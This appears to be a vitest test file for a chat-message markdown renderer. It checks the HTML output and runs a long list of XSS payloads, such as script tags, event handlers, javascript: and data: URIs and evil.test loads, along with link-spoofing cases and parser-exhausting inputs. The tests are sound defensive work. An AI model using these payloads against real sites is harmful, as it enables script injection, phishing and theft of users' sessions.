import { describe, expect, test } from 'vitest';
import { messageHtml } from './message-html.ts';

describe('the subset of markdown that is set', () => {
  test.each([
    ['one\n\ntwo', '<p>one</p>\n<p>two</p>\n'],
    ['one\ntwo', '<p>one<br>two</p>\n'],
    ['*a* **b** ~~c~~ `d`', '<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>\n'],
    ['# Title', '<p><strong>Title</strong></p>\n'],
    ['- a\n- b', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n'],
    ['3. a\n4. b', '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'],
    ['> a', '<blockquote>\n<p>a</p>\n</blockquote>\n'],
    ['```js\na < b\n```', '<pre><code>a &#60; b</code></pre>\n'],
    ['a < b & c', '<p>a &#60; b &#38; c</p>\n'],
    [
      '[here](https://example.org/a?b=1&c=2)',
      '<p><a href="https://example.org/a?b&#61;1&#38;c&#61;2" rel="noopener noreferrer nofollow ugc">here</a> <span class="host">(example.org)</span></p>\n',
    ],
    [
      'https://example.org/a',
      '<p><a href="https://example.org/a" rel="noopener noreferrer nofollow ugc">https://example.org/a</a></p>\n',
    ],
    [
      '[write](mailto:a@example.org)',
      '<p><a href="mailto:a@example.org" rel="noopener noreferrer nofollow ugc">write</a> <span class="host">(a@example.org)</span></p>\n',
    ],
    ['![a cat](https://example.org/cat.png)', '<p>![a cat](https://example.org/cat.png)</p>\n'],
    [
      '| a | b |\n|---|---|\n| 1 | 2 |',
      '<table>\n<thead><tr><th scope="col">a</th><th scope="col">b</th></tr></thead>\n<tbody>\n<tr><td>1</td><td>2</td></tr>\n</tbody>\n</table>\n',
    ],
  ])('%j', (text, html) => {
    expect(messageHtml(text)).toBe(html);
  });
});

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.test/pixel">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '</style><script>alert(1)</script>',
  '</div></article></main><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<?php echo 1 ?><script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</script>',
  '\ufeff<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p title="`<img src=x onerror=alert(1)>`">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\u0009script:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](file:///etc/passwd)',
  '[x](//evil.test)',
  '[x](blob:https://evil.test/1)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '[x](https://evil.test/"onmouseover="alert(1))',
  "[x](https://evil.test/'onmouseover='alert(1))",
  '[x](https://evil.test/ "\\" onmouseover=alert(1) x=")',
  '[<img src=x onerror=alert(1)>](https://evil.test)',
  '[x](https://evil.test"><script>alert(1)</script>)',
  '![x](x"onerror="alert(1))',
  '![x](javascript:alert(1))',
  '![<script>alert(1)</script>](https://evil.test/pixel)',
  '[![x](https://evil.test/pixel)](https://evil.test)',
  '`<script>alert(1)</script>`',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '    <script>alert(1)</script>',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '- <script>alert(1)</script>\n- [ ] <img src=x onerror=alert(1)>',
  '# <script>alert(1)</script>',
  '> <script>alert(1)</script>',
  '**<script>alert(1)</script>**',
  '\\<script>alert(1)\\</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '1<x. <svg/onload=alert(1)>',
  '<x onclick=alert(1)>x</x>',
  'a<b onclick=alert(1)//',
  '\u2028<script>alert(1)</script>',
  '<img src=x onerror=alert(1)'.repeat(3),
];

test.each([
  ['[https://bank.example.evil.test](https://evil.test/)', 'evil.test'],
  ['[https://аpple.com](https://аpple.com/)', 'xn--pple-43d.com'],
  ['https://bank.example@evil.test/', 'evil.test'],
  ['[your bank](mailto:a@evil.test)', 'a@evil.test'],
])('the link %s is followed by where it leads', (text, host) => {
  expect(messageHtml(text)).toContain(` <span class="host">(${host})</span>`);
});

describe('what is said cannot run or load anything', () => {
  test.each(payloads)('%j', (payload) => {
    expect(strangersIn(messageHtml(payload))).toEqual([]);
    expect(strangersIn(messageHtml(`Hello *there*.\n\n${payload}\n\nAnd **on**.`))).toEqual([]);
  });
});

describe('a text that is made to keep the server busy is set as plain text', () => {
  test.each([
    ['quotations without end', '>'.repeat(19_000)],
    ['lists without end', '- '.repeat(9_000)],
    ['deeper and deeper', Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')],
    ['brackets', '['.repeat(50_000)],
    ['stars', '*a '.repeat(40_000)],
    ['backticks', Array.from({ length: 300 }, (_, length) => '`'.repeat(length)).join('x')],
    ['links', '[a](b'.repeat(10_000)],
    ['tags', '<a '.repeat(20_000)],
    ['spaces', `a${' '.repeat(100_000)}b`],
    ['a very long speech', 'word '.repeat(300_000)],
  ])('%s', (_, text) => {
    const start = performance.now();
    const html = messageHtml(text);
    expect(performance.now() - start).toBeLessThan(1000);
    expect(strangersIn(html)).toEqual([]);
  });
});

/** Everything between `<` and `>` that is not exactly a tag of ours; nothing else in the text may hold a `<`. */
function strangersIn(html: string): string[] {
  const tags = html.match(/<[^>]*>?/g) ?? [];
  return tags.filter((tag) => !ours.test(tag));
}

const ours =
  /^<(?:\/?(?:p|strong|em|del|code|pre|ul|ol|li|blockquote|table|thead|tbody|tr|td|a|span)|\/th|br|hr|th scope="col"|ol start="\d+"|span class="host"|a href="(?:https?:\/\/|mailto:)[^"'<>\s`]*" rel="noopener noreferrer nofollow ugc")>$/;
